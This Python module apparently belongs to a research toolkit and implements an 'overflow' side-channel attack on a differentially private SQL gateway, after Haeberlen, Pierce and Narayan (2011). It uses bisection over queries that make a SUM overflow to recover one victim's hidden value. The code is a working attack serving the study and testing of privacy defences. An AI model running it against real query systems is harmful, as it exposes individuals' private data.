"""The overflow attack."""

from __future__ import annotations

import dataclasses
from typing import ClassVar

from discreet.attacks._base import GatewayAttack, Interrogation, Victim
from discreet.registry import parameter

__all__ = ["Overflow"]

#: The first whole number of millions of millions that does not fit into 64 bits.
_FIRST = 9_223_373


@dataclasses.dataclass(frozen=True)
class Overflow(GatewayAttack):
    """Have the victim's value overflow or not, and read it from whether the statement fails.

    Inside CASE only the victim's value is computed with, so it alone decides; bisection finds it,
    whatever is done to the answers themselves.

    Examples
    --------
    >>> report = Overflow().control()
    >>> report.succeeded, report.asked
    (True, 25)
    """

    name: ClassVar[str] = "overflow"
    reference: ClassVar[str] = (
        "Haeberlen, Pierce and Narayan (2011), Differential privacy under fire"
    )

    least: int = parameter(0, help="what the value is known not to be below")

    def conclude(self, interrogation: Interrogation, victim: Victim) -> tuple[float, float] | None:
        """Bisect the number that makes the sum fail."""
        low, high = 0, _FIRST - self.least
        if self._fails(interrogation, victim, low) or not self._fails(interrogation, victim, high):
            return None
        while high - low > 1:
            middle = (low + high) // 2
            if self._fails(interrogation, victim, middle):
                high = middle
            else:
                low = middle
        value = float(_FIRST - high)
        return value, value

    @staticmethod
    def _fails(interrogation: Interrogation, victim: Victim, added: int) -> bool:
        moved = f"({victim.column} + {added}) * 1000000000000"
        return interrogation.fails(
            f"SELECT SUM(CASE WHEN {victim.condition} THEN {moved} ELSE 0 END) "  # noqa: S608 - the attacker writes SQL
            f"FROM {victim.relation}"
        )
